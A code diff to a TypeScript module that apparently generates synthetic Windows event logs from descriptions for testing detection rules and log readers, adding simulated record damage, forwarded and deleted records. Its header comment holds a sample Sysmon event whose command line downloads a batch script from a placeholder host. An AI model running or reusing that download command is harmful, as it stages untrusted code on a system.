@@ -15,11 +15,14 @@
  *           Image: C:\Windows\System32\curl.exe
  *           CommandLine: curl -o a.bat https://example.com/a.bat
  *         fires: [rule_file_name]     # for those who check the outcome
+ *     routines: …                     # see routines.ts
+ *     damage: …                       # see damage.ts
  */
 
 import type { RecordDescription } from '../evtx/write-event.ts'
-import { EvtxWriteError, fileTime } from '../evtx/write-value.ts'
+import { fileTime } from '../evtx/write-value.ts'
 import { describeBody } from './body.ts'
+import { describeDamage, type MadeDamage } from './damage.ts'
 import { type MapNode, parseDocument } from './document.ts'
 import {
   type EventShape,
@@ -33,13 +36,29 @@ import {
 import type { Process } from './process.ts'
 import { acting, Processes, securityCreation, sysmonCreation, type Values } from './process-events.ts'
 import { Reader } from './reader.ts'
+import { routineEvents } from './routines.ts'
 import { describeSystem } from './system.ts'
+import { sysmonTime } from './times.ts'
 
 export interface Recording {
   readonly title: string
   /** What it shows, in a sentence or two; '' when not given. */
   readonly about: string
+  /** Of the description. */
+  readonly file: string
   readonly events: readonly DescribedEvent[]
+  /** Another description, relative to this one, whose events these are. */
+  readonly copyOf: string | undefined
+  readonly damage: readonly MadeDamage[]
+  /** What damage must do to readers. */
+  readonly expected: ExpectedDamage
+}
+
+export interface ExpectedDamage {
+  /** Codes that a reader must report. */
+  readonly damage: readonly string[]
+  /** Ids of records that cannot be read any more. */
+  readonly lost: readonly number[]
 }
 
 export interface DescribedEvent {
@@ -48,8 +67,19 @@ export interface DescribedEvent {
   readonly fires: readonly string[]
 }
 
-const DEFAULT_KEYS = ['computer', 'user', 'channel', 'event_id', 'schema'] as const
-const FILE_KEYS = ['title', 'about', ...DEFAULT_KEYS, 'first_record_id', 'processes', 'events']
+const DEFAULT_KEYS = ['computer', 'user', 'channel', 'event_id', 'schema', 'form'] as const
+const FILE_KEYS = [
+  'title',
+  'about',
+  ...DEFAULT_KEYS,
+  'first_record_id',
+  'processes',
+  'events',
+  'routines',
+  'copy_of',
+  'damage',
+  'expect',
+]
 const EVENT_KEYS = [
   'time',
   ...DEFAULT_KEYS,
@@ -61,8 +91,11 @@ const EVENT_KEYS = [
   'data',
   'user_data',
   'binary',
+  'deleted',
   'fires',
 ]
+/** `forwarded`: as a collector writes it, without template. */
+const FORMS = ['recorded', 'forwarded']
 const PROCESS_NUMBERS = ['ProcessId', 'TerminalSessionId']
 const PROCESS_TEXTS = ['Image', 'CommandLine', 'CurrentDirectory', 'User', 'IntegrityLevel', 'ProcessGuid']
 const PROCESS_KEYS = [...PROCESS_TEXTS, ...PROCESS_NUMBERS, 'computer']
@@ -81,8 +114,21 @@ class Describer {
   constructor(text: string, file: string) {
     this.#reader = new Reader(file)
     this.#root = this.#reader.map(parseDocument(text, file), 'a description', FILE_KEYS)
-    const events = this.#root.entries.get('events')?.value ?? this.#reader.fail(1, 'a description needs events')
-    this.#events = this.#reader.list(events, 'events').map((node) => this.#reader.map(node, 'an event', EVENT_KEYS))
+    this.#events = this.#inOrder(routineEvents(this.#reader, this.#root, EVENT_KEYS))
+    if (this.#events.length === 0 && !this.#root.entries.has('copy_of'))
+      this.#reader.fail(1, 'a description needs events')
+  }
+
+  /** Events stand in the order in which they are given, unless there are routines: then in that of time. */
+  #inOrder(ofRoutines: readonly MapNode[]): readonly MapNode[] {
+    const given = this.#root.entries.get('events')
+    const listed = given === undefined ? [] : this.#reader.list(given.value, 'events')
+    const events = listed.map((node) => this.#reader.map(node, 'an event', EVENT_KEYS))
+    if (ofRoutines.length === 0) return events
+    return [...events, ...ofRoutines]
+      .map((event) => ({ event, ticks: fileTime(this.#time(event)) }))
+      .sort((a, b) => (a.ticks < b.ticks ? -1 : a.ticks > b.ticks ? 1 : 0))
+      .map(({ event }) => event)
   }
 
   recording(): Recording {
@@ -94,10 +140,27 @@ class Describer {
       return this.#event(event, recordId)
     })
     return {
+      file: this.#reader.file,
       title: this.#reader.textAt(this.#root, 'title') ?? '',
       about: this.#reader.textAt(this.#root, 'about')?.trim() ?? '',
       events,
+      copyOf: this.#reader.textAt(this.#root, 'copy_of'),
+      damage: describeDamage(this.#reader, this.#root),
+      expected: this.#expected(),
     }
+  }
+
+  #expected(): ExpectedDamage {
+    const entry = this.#root.entries.get('expect')
+    if (entry === undefined) return { damage: [], lost: [] }
+    const map = this.#reader.map(entry.value, 'expect', ['damage', 'lost'])
+    const lost = this.#reader.textsAt(map, 'lost').flatMap((text) => {
+      const [, first, last = first] = /^(\d{1,9})(?:-(\d{1,9}))?$/.exec(text) ?? []
+      if (first === undefined)
+        return this.#reader.fail(entry.line, 'lost is a list of record ids, or ranges like 10-20')
+      return Array.from({ length: Number(last) - Number(first) + 1 }, (_, i) => Number(first) + i)
+    })
+    return { damage: this.#reader.textsAt(map, 'damage'), lost }
   }
 
   #event(event: MapNode, recordId: number): DescribedEvent {
@@ -108,7 +171,16 @@ class Describer {
       timeCreated: this.#time(event),
     })
     const body = describeBody(reader, event, shape, this.#derived(event, shape))
-    return { record: { recordId, system, ...(body && { body }) }, fires: reader.textsAt(event, 'fires') }
+    const form = this.#optionalSetting(event, 'form') ?? FORMS[0]!
+    if (!FORMS.includes(form)) reader.fail(event.line, `form must be one of ${FORMS.join(', ')}`)
+    const record = {
+      recordId,
+      system,
+      ...(body && { body }),
+      ...(form === 'forwarded' && { isForwarded: true }),
+      ...(reader.textAt(event, 'deleted') === 'true' && { isDeleted: true }),
+    }
+    return { record, fires: reader.textsAt(event, 'fires') }
   }
 
   /** The shape of a known event; for others one without fields, so that the description has to say everything. */
@@ -200,12 +272,7 @@ class Describer {
 
   #time(event: MapNode): string {
     const time = this.#reader.textAt(event, 'time') ?? this.#reader.fail(event.line, 'an event needs "time"')
-    try {
-      fileTime(time)
-    } catch (error) {
-      if (error instanceof EvtxWriteError) this.#reader.fail(event.entries.get('time')!.line, error.message)
-      throw error
-    }
+    this.#reader.written(event.entries.get('time')!.line, () => fileTime(time))
     return time
   }
 
@@ -219,10 +286,4 @@ class Describer {
   #optionalSetting(event: MapNode, key: (typeof DEFAULT_KEYS)[number]): string | undefined {
     return this.#reader.textAt(event, key) ?? this.#reader.textAt(this.#root, key)
   }
-}
-
-/** Sysmon writes times as text, UTC, to the millisecond. */
-function sysmonTime(time: string): string {
-  const milliseconds = Number(fileTime(time) / 10_000n - 11_644_473_600_000n)
-  return new Date(milliseconds).toISOString().replace('T', ' ').replace('Z', '')
 }
